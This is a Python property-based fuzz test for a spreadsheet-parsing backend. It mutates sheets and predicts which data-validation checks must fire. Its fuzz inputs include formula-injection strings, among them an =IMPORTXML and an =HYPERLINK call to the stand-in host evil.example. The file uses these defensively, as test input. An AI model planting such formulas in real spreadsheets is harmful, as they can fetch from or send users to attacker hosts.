"""The fuzz model: nasty cell values, sheet mutations, and an independent oracle of the checks
that a mutated sheet must produce (docs/contract.md §2–§3)."""

from __future__ import annotations

import re
from typing import Any

from hypothesis import strategies as st

from rolemap.core.model.contract import TabSpec, load_contract, normalize
from tests.reliability.sheets import Grid, is_output, small_demo

NUMERIC = {"money", "count", "number", "percent"}
NON_NEGATIVE = {"money", "count"}
LONG = 50_000
_DIGIT = re.compile(r"[0-9]")
_MAX_SERIAL = 2958465

FORMULA_LIKE = (
    '=IMPORTXML("https://evil.example/x", "//a")',
    '=HYPERLINK("https://evil.example", "click")',
    "=1+1",
    "=SUM(A1:A3)",
    "+1",
    "-2",
    "@x",
    "@SUM(A1)",
    "=",
    "-",
    "+",
    "@",
)
SENTINELS = (
    "#N/A",
    "#REF!",
    "#DIV/0!",
    "#VALUE!",
    "#NAME?",
    "NaN",
    "nan",
    "inf",
    "-inf",
    "Infinity",
    "N/A",
    "—",
    "∞",
    "\u200b",
    "  ",
    "",
    "TRUE",
    "1 234,56",
    "12,5%",
    "$1,200",
    "3 000 ₽",
    "1,2,3",
    "(500)",
    "1e5",
    "0,005",
    "31.02.2026",
    "2026-13-01",
    "23/11/2026",
)
NUMBERS = (
    0,
    -5,
    -0.0,
    1e308,
    -1e308,
    1.7e308,  # the largest double itself overflows openpyxl's round trip: see test_fuzz
    5e-324,
    2**53 + 1,
    2**70,
    -(2**63),
    float("nan"),
    float("inf"),
    float("-inf"),
    0.1 + 0.2,
    46349,
    2958466,
)

_text = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)
long_text = st.tuples(_text.filter(bool), st.sampled_from(["", "=", "@", "#"])).map(
    lambda t: (t[1] + t[0] * (LONG // len(t[0]) + 1))[:LONG]
)
formula_text = st.one_of(
    st.sampled_from(FORMULA_LIKE),
    st.tuples(st.sampled_from("=+-@"), _text).map("".join),
)
nasty_values: st.SearchStrategy[Any] = st.one_of(
    st.sampled_from(SENTINELS),
    st.sampled_from(NUMBERS),
    formula_text,
    _text,
    st.floats(allow_nan=True, allow_infinity=True),
    st.integers(min_value=-(10**15), max_value=10**15),
    st.booleans(),
    long_text,
)
unreadable_number: st.SearchStrategy[Any] = st.one_of(
    st.sampled_from(
        ["#N/A", "#REF!", "NaN", "inf", "-inf", "Infinity", "N/A", "@x", "∞", True]
        + [f for f in FORMULA_LIKE if not _DIGIT.search(f)]
    ),
    long_text,
    _text.filter(lambda t: bool(t.strip()) and not _DIGIT.search(t)),
)


# -- the mutations


class Case:
    def __init__(self, lang: str, tabs: dict[str, Grid]) -> None:
        self.lang = lang
        self.tabs = tabs
        self.steps: list[str] = []

    def __repr__(self) -> str:  # Hypothesis prints this for a failing example
        return f"Case(lang={self.lang!r}, steps={self.steps!r})"


def _width(grid: Grid) -> int:
    return max((len(r) for r in grid), default=0)


def _put(grid: Grid, r: int, c: int, value: Any) -> None:
    while len(grid) <= r:
        grid.append([])
    row = grid[r]
    while len(row) <= c:
        row.append(None)
    row[c] = value


def _spec(title: str) -> TabSpec | None:
    key = normalize(title)
    return next((t for t in load_contract().tabs if key in t.names), None)


def _type_class(spec: TabSpec | None, header: Any) -> str:
    if spec is None or header is None:
        return "other"
    name = normalize(header)
    col = next((c for c in spec.columns if name in c.names), None)
    if col is None:
        return "other"
    return "number" if col.type in NUMERIC else "date" if col.type == "date" else "text"


@st.composite
def cases(draw: st.DrawFn) -> Case:
    lang = draw(st.sampled_from(["en", "ru"]))
    flag_column = draw(st.booleans())
    case = Case(lang, small_demo(lang, with_flag_column=flag_column))  # type: ignore[arg-type]
    if flag_column:
        case.steps.append("stale flag column")
    for _ in range(draw(st.integers(1, 5))):
        kind = draw(
            st.sampled_from(
                [
                    "cell",
                    "cell",
                    "bad_number",
                    "bad_number",
                    "header_empty",
                    "header_rename",
                    "header_duplicate",
                    "duplicate_column",
                    "delete_tab",
                    "rename_tab",
                    "blank_row",
                    "blank_column",
                    "long_cell",
                ]
            )
        )
        _mutate(draw, case, kind)
    return case


def _mutate(draw: st.DrawFn, case: Case, kind: str) -> None:
    tabs = case.tabs
    if not tabs:
        return
    title = draw(st.sampled_from(sorted(tabs)))
    grid = tabs[title]
    width = max(_width(grid), 1)
    if kind in ("cell", "long_cell"):
        r = draw(st.integers(1, len(grid)))
        c = draw(st.integers(0, width))
        value = draw(nasty_values if kind == "cell" else long_text)
        _put(grid, r, c, value)
        case.steps.append(f"{title}[{r},{c}] = {value!r:.60}")
    elif kind == "bad_number":
        spec = _spec(title)
        header = grid[0] if grid else []
        number_cols = [c for c, h in enumerate(header) if _type_class(spec, h) == "number"]
        if len(grid) < 2 or not number_cols:
            return
        r = draw(st.integers(1, len(grid) - 1))
        c = draw(st.sampled_from(number_cols))
        value = draw(unreadable_number)
        _put(grid, r, c, value)
        case.steps.append(f"{title}[{r},{c}] = {value!r:.60} (number column)")
    elif kind == "header_empty" and grid:
        c = draw(st.integers(0, max(len(grid[0]) - 1, 0)))
        if c < len(grid[0]):
            grid[0][c] = draw(st.sampled_from([None, "", "   "]))
            case.steps.append(f"{title} header {c} emptied")
    elif kind == "header_rename" and grid and grid[0]:
        c = draw(st.integers(0, len(grid[0]) - 1))
        old = grid[0][c]
        new = draw(st.one_of(_text, st.just(f"{old} (old)"), st.just(f"Old {old}")))
        grid[0][c] = new
        case.steps.append(f"{title} header {c} {old!r} -> {new!r}")
    elif kind == "header_duplicate" and grid and len(grid[0]) > 1:
        spec = _spec(title)
        a = draw(st.integers(0, len(grid[0]) - 1))
        same_class = [
            c
            for c, h in enumerate(grid[0])
            if c != a and _type_class(spec, h) == _type_class(spec, grid[0][a])
        ]
        if not same_class:
            return
        b = draw(st.sampled_from(same_class))
        grid[0][b] = grid[0][a]
        case.steps.append(f"{title} header {b} duplicates header {a} {grid[0][a]!r}")
    elif kind == "duplicate_column" and grid:
        src = draw(st.integers(0, width - 1))
        at = draw(st.integers(0, width))
        for row in grid:
            value = row[src] if src < len(row) else None
            row[:] = [*row, *([None] * (at - len(row)))] if len(row) < at else row
            row.insert(at, value)
        case.steps.append(f"{title} column {src} copied to {at}")
    elif kind == "delete_tab":
        del tabs[title]
        case.steps.append(f"deleted {title}")
    elif kind == "rename_tab":
        new = draw(
            st.one_of(
                st.just(f"{title} (copy)"),
                st.just(f"Old {title}"),
                st.text(
                    st.characters(
                        codec="utf-8",
                        exclude_categories=("Cc", "Cs"),
                        exclude_characters="[]:*?/\\'",
                    ),
                    min_size=1,
                    max_size=31,
                ),
            ).map(lambda t: t[:31].strip())
        )
        taken = {normalize(t) for t in tabs}
        if not new or normalize(new) in taken or _spec(new) is not None or is_output(new):
            return
        tabs[new] = tabs.pop(title)
        case.steps.append(f"renamed {title} -> {new!r}")
    elif kind == "blank_row":
        at = draw(st.integers(1, len(grid)))
        for _ in range(draw(st.integers(1, 3))):
            grid.insert(at, [])
        case.steps.append(f"{title} blank rows at {at}")
    elif kind == "blank_column":
        at = draw(st.integers(0, width))
        for row in grid:
            if len(row) > at:
                row.insert(at, None)
        case.steps.append(f"{title} blank column at {at}")


# -- the oracle: what docs/contract.md §3 requires of the sheet as the backend reads it


def _blank(value: Any) -> bool:
    if value is None:
        return True
    if isinstance(value, float) and value != value:
        return True
    return isinstance(value, str) and not value.strip()


def unreadable_as_number(value: Any) -> bool:
    """True only for values that certainly are not numbers (text without a digit, an error)."""
    if _blank(value):
        return False
    if isinstance(value, bool):
        return True
    if isinstance(value, int | float):
        return value in (float("inf"), float("-inf"))
    if isinstance(value, str):
        text = value.strip()
        return text.startswith("#") or len(text) > 100 or not _DIGIT.search(text)
    return False


def unreadable_as_date(value: Any) -> bool:
    if _blank(value):
        return False
    if isinstance(value, bool):
        return True
    if isinstance(value, int | float):
        return not (1 <= value < _MAX_SERIAL + 1)
    if isinstance(value, str):
        text = value.strip()
        return text.startswith("#") or len(text) > 100 or not _DIGIT.search(text)
    return False


def certainly_negative(value: Any) -> bool:
    if isinstance(value, bool) or not isinstance(value, int | float):
        return value == "-2"
    return bool(value < 0) and value not in (float("-inf"),)


Expected = tuple[str, str, int | None, str | None]  # code, tab, row, column


def expected_checks(tabs: dict[str, Grid]) -> set[Expected]:
    """Checks the spec requires for `tabs` (a subset of what a correct run reports)."""
    contract = load_contract()
    by_name = {normalize(t): t for t in tabs}
    out: set[Expected] = set()
    for spec in contract.tabs:
        title = next((by_name[n] for n in sorted(spec.names) if n in by_name), None)
        if title is None:
            if spec.required:
                out.add(("DATA-MISSING-TAB", spec.en, None, None))
            continue
        if spec.layout != "table":
            continue
        grid = tabs[title]
        header = grid[0] if grid else []
        cols: dict[str, int] = {}
        for c, value in enumerate(header):
            if _blank(value):
                continue
            name = normalize(value)
            for col in spec.columns:
                if name in col.names and col.key not in cols:
                    cols[col.key] = c
                    break
        for col in spec.columns:
            if col.required and col.key not in cols:
                out.add(("DATA-MISSING-COLUMN", spec.en, 1, col.en))
        for r in range(1, len(grid)):
            row = grid[r]

            def cell(c: int, row: list[Any] = row) -> Any:
                return row[c] if c < len(row) else None

            if all(_blank(cell(c)) for c in cols.values()):
                continue
            for key, c in cols.items():
                col, value = spec.column(key), cell(c)
                if col.type in NUMERIC and unreadable_as_number(value):
                    out.add(("DATA-BAD-NUMBER", spec.en, r + 1, col.en))
                if col.type in NON_NEGATIVE and certainly_negative(value):
                    out.add(("DATA-NEGATIVE", spec.en, r + 1, col.en))
                if col.type == "date" and unreadable_as_date(value):
                    out.add(("DATA-BAD-DATE", spec.en, r + 1, col.en))
    return out
